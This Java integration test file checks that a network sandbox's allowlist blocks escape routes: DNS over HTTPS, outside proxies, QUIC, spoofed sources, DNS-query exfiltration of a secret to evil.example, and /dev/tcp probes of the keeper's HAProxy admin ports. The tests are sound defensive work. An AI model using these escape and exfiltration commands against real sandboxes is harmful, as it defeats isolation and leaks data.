package dev.sandboxed.e2e.network;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sandboxed.e2e.world.Launch;
import dev.sandboxed.e2e.world.OutcomeAssert;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Ways out of allowlist that do not go by a name: other protocols, other resolvers, proxies, and
 * the programs that keep the sandbox. Each is first shown to work outside.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AllowlistWaysOutIT {

  private static final String CURL = "curl -sS -k ";

  // Asks as libresolv would, and prints the code and the number of answers.
  private static final String ASK =
      """
      import socket, struct, sys
      server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
      for word in sys.argv[1:]:
          name, kind = word.split("/")
          labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
          asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          asker.connect((server, 53))
          asker.send(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", int(kind), 1))
          answer = asker.recv(4096)
          print(word, "code", answer[3] & 15, "answers", struct.unpack(">H", answer[6:8])[0])
      """;

  // Asks from an address of the sandbox's loopback, which must not come back to anybody, and then
  // from its own; prints what was written down when the second was.
  private static final String FALSE_SOURCE =
      """
      import socket, struct
      def ask(name, source):
          labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
          asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          asker.bind((source, 0))
          asker.sendto(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", 1, 1), ("10.0.2.1", 53))
      ask("false.evil.example", "127.0.0.5")
      ask("true.evil.example", "0.0.0.0")
      said = ""
      while "true.evil.example" not in said:
          said = open("/run/sandboxed/names.jsonl").read()
      print(said)
      """;

  // Says something in QUIC's place and waits for an answer, however long that takes.
  private static final String DATAGRAM =
      """
      import socket, sys
      for address in sys.argv[1:]:
          said = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          try:
              said.connect((address, 443))
              said.send(b"initial")
              print(address, said.recv(100).decode())
          except OSError as error:
              print(address, "refused", error.errno)
      """;

  // An ip that gives the sandbox no rule by which it would refuse something itself.
  private static final String WITHOUT_REFUSALS =
      """
      PATH=/usr/sbin:/sbin:/usr/bin:/bin
      case "$*" in
        *sandbox.batch)
          grep unreachable "$2" >"${0%/*}/../left-out"
          grep -v unreachable "$2" | ip -batch - ;;
        *) exec ip "$@" ;;
      esac
      """;

  private final NamedHosts hosts = new NamedHosts();

  @AfterAll
  void tearDown() {
    hosts.close();
  }

  /** Resolvers of browsers and libraries that go past the system's. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil.example/dns-query",
        "https://203.0.113.7/dns-query",
        "--connect-to ::203.0.113.7 https://evil.example/dns-query"
      })
  void namesAreNotAskedOverHttps(String how) {
    String program = CURL + how;
    hosts.assertOutside(program, "tls ");

    OutcomeAssert.assertThat(hosts.allowing("good.example").shell(program)).failed().outIs("");
    OutcomeAssert.assertThat(
            hosts
                .allowing("good.example")
                .shell(CURL + "https://1.1.1.1/dns-query https://8.8.8.8/"))
        .failed()
        .outIs("");
    assertThat(hosts.log()).anyMatch(line -> line.contains("\"asked\":\"1.1.1.1:443\""));
  }

  /** A proxy outside is one more host, at one more port. */
  @ParameterizedTest
  @CsvSource({"--socks5-hostname, 1080", "--proxytunnel --proxy, 3128"})
  void noProxyIsReachedThatIsNotNamed(String option, String port) {
    String program = CURL + option + " good.example:" + port + " https://evil.example/";
    hosts.assertOutside(program, "tls evil.example");

    OutcomeAssert.assertThat(hosts.allowing("good.example").shell(program)).failed().outIs("");
    OutcomeAssert.assertThat(hosts.allowing("good.example:" + port).shell(program))
        .outContains("tls evil.example");
  }

  /** HAProxy is a proxy for nobody who asks it to be one. */
  @ParameterizedTest
  @ValueSource(strings = {"10.0.2.1:9980", "10.0.2.1:9443", "10.0.2.1:9999", "10.0.2.1:80"})
  void theKeeperIsNoProxy(String place) {
    String program =
        "for how in --socks4a --socks5-hostname --proxytunnel\\ --proxy --proxy; do "
            + CURL
            + "$how "
            + place
            + " http://evil.example/ https://evil.example/; done";

    assertThat(hosts.allowing("good.example").shell(program).out())
        .doesNotContain("tls evil.example", "http evil.example");
  }

  /** Where a port is published, the kernel inside sends from loopback as well (rp_filter). */
  @Test
  void nobodyIsHeardUnderAFalseAddress() {
    Launch launch = hosts.sandboxed("publish = ['3000']");

    OutcomeAssert.assertThat(launch.command(python(FALSE_SOURCE)))
        .succeeded()
        .outContains("true.evil.example")
        .outLacks("false.evil.example");
  }

  /** A program that hears of it at once goes on without QUIC. */
  @Test
  void quicIsRefusedAtOnce() {
    String[] command = python(DATAGRAM, NamedHosts.ADDRESS);
    assertThat(hosts.world.run(command).out()).contains("203.0.113.7 initial");

    OutcomeAssert.assertThat(
            hosts
                .allowing("good.example")
                .command(python(DATAGRAM, NamedHosts.ADDRESS, "good.example", "198.19.0.2")))
        .succeeded()
        .outContains("203.0.113.7 refused")
        .outContains("good.example refused")
        .outContains("198.19.0.2 refused");
  }

  /** Only TCP by name leaves the sandbox. */
  @Test
  void nothingElseLeaves() {
    List<String> ways =
        List.of(
            "tcp,203.0.113.7,8000",
            "udp,203.0.113.7,8000",
            "icmp,203.0.113.7,0",
            "tcp,192.168.1.20,8000",
            "tcp,127.0.0.1,8001",
            "dns-udp,203.0.113.53,53",
            "dns-tcp,203.0.113.53,53",
            "tcp,203.0.113.7,853",
            "tcp,2001:db8:ffff::7,8000");
    assertThat(
            Probe.of(hosts.world, ways.stream().filter(way -> !way.contains("127.0.0.1")).toList())
                .silences())
        .isEmpty();

    assertThat(Probe.inside(hosts.allowing("good.example"), ways).answers()).isEmpty();
  }

  /** The sandbox's own rules are there for haste: without them the router refuses as much. */
  @Test
  void theRouterRefusesByItself() {
    String[] ways = {"udp,203.0.113.7,8000", "icmp,203.0.113.7,0", "dns-udp,203.0.113.53,53"};
    // Its own address inside; it would answer a ping.
    String itself = "icmp,10.0.2.1,0";
    try (NamedHosts own = new NamedHosts()) {
      own.world.installScript("ip", WITHOUT_REFUSALS);
      assertThat(Probe.of(own.world, List.of(ways)).silences()).isEmpty();

      Launch launch = own.allowing("good.example");

      OutcomeAssert.assertThat(launch.shell(CURL + "https://good.example/")).succeeded();
      assertThat(own.world.home().resolve("left-out")).content().contains("unreachable");
      assertThat(
              Probe.inside(
                      launch, List.of(), Stream.concat(Stream.of(ways), Stream.of(itself)).toList())
                  .answers())
          .isEmpty();
    }
  }

  /** A question is how data leaves other sandboxes. */
  @Test
  void noQuestionForANameLeaves() {
    String secret = "the-secret-is-forty-two";
    Launch launch = hosts.allowing("good.example", "*.good.example");

    OutcomeAssert.assertThat(
            launch.command(
                python(
                    ASK,
                    secret + ".evil.example/1",
                    secret + ".evil.example/16",
                    secret + ".good.example/1",
                    "good.example/28",
                    "good.example/65",
                    "good.example/64",
                    "use-application-dns.net/1",
                    "printer.local/1",
                    "single/1",
                    "1.0.0.127.in-addr.arpa/12")))
        .outContains(secret + ".evil.example/1 code 0 answers 1")
        .outContains(secret + ".evil.example/16 code 0 answers 0")
        .outContains("good.example/28 code 0 answers 0")
        .outContains("good.example/65 code 0 answers 0")
        .outContains("good.example/64 code 0 answers 0")
        .outContains("use-application-dns.net/1 code 3")
        .outContains("printer.local/1 code 3")
        .outContains("single/1 code 3")
        .outContains("in-addr.arpa/12 code 3");
    OutcomeAssert.assertThat(launch.shell(CURL + "https://last.good.example/")).succeeded();
    hosts.heard("dns 1 last.good.example");
    assertThat(hosts.said()).doesNotContain(secret);
  }

  /** The router is the sandbox's name server, and nothing else to it. */
  @Test
  void theSandboxCannotReachItsKeeper() {
    Launch launch = hosts.allowing("good.example");
    String admin = "find / -name '*.admin' 2>/dev/null; cat /proc/net/unix | grep -c admin";

    assertThat(launch.shell(admin).out().strip()).isEqualTo("0");
    assertThat(
            launch
                .shell(
                    "for port in 9443 9980 9999 80 443; do bash -c \"echo x >/dev/tcp/10.0.2.1/$port; exec 5<>/dev/tcp/10.0.2.1/$port; echo show info >&5; cat <&5\"; done 2>/dev/null")
                .out())
        .doesNotContain("HAProxy", "Uptime");
    OutcomeAssert.assertThat(launch.shell("echo x >>/run/sandboxed/denied.jsonl")).failed();
  }

  private static String[] python(String script, String... more) {
    return Stream.concat(Stream.of("/usr/bin/python3", "-c", script), Stream.of(more))
        .toArray(String[]::new);
  }
}
